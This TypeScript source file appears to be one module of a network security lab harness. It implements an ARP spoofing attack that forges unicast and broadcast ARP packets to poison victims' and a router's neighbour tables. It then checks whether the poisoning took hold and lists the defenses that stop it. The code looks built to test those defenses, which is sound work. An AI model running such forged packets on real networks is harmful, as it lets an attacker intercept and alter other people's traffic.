// SPDX-License-Identifier: Apache-2.0
import { arp, broadcast } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { anyOf, believed, says } from "../evidence.ts";
import type { Field, Party, Station } from "../field.ts";

/** As an answer and as a question, to the victim and to all: kernels differ in what they believe. */
function lies(attacker: Party, owner: Party, victim: Party): Uint8Array[] {
  const [sender, target] = [{ mac: attacker.mac, ip: owner.v4 }, { mac: victim.mac, ip: victim.v4 }];
  const [one, all] = [{ from: attacker.mac, to: victim.mac }, { from: attacker.mac, to: broadcast }];
  return [arp(one, 2, sender, target), arp(one, 1, sender, target), arp(all, 1, sender, target), arp(all, 2, sender, { mac: broadcast, ip: owner.v4 }), arp(all, 1, sender, { mac: "00:00:00:00:00:00", ip: owner.v4 })];
}

const poisoned = (attacker: Party, owner: Party, victim: Station): Promise<boolean> =>
  believed(attacker, lies(attacker, owner, victim), () => says(victim, ["ip", "neigh", "show", owner.v4], attacker.mac));

async function toRouter({ attacker, victim, router }: Field): Promise<boolean> {
  const [lie, ...more] = lies(attacker, victim, router);
  const heard = router.hears(lie!.subarray(22, 32), 1400); // the sender's two addresses, which are the lie
  await believed(attacker, [lie!, ...more], async () => false);
  return (await heard) !== undefined;
}

export const arpSpoofing: Attack = {
  slug: "arp-spoofing",
  needs: "a place on the network",
  gains: "what the victim sends to a peer or to the router comes to the attacker, who may change it and pass it on",
  stoppedBy: "sender and binding: the addresses inside ARP are the sender's own; neighbour: questions are answered by the switch",
  run: async (field) => {
    const { attacker, victim, peer, distant, router } = field;
    try {
      return await anyOf(field, {
        "peer to victim": poisoned(attacker, peer, victim), "router to victim": poisoned(attacker, router, victim),
        "router to distant": poisoned(attacker, router, distant), "victim to router": toRouter(field),
      });
    } finally {
      await Promise.all([victim, distant].map((station) => station.run(["ip", "neigh", "flush", "all"])));
    }
  },
};
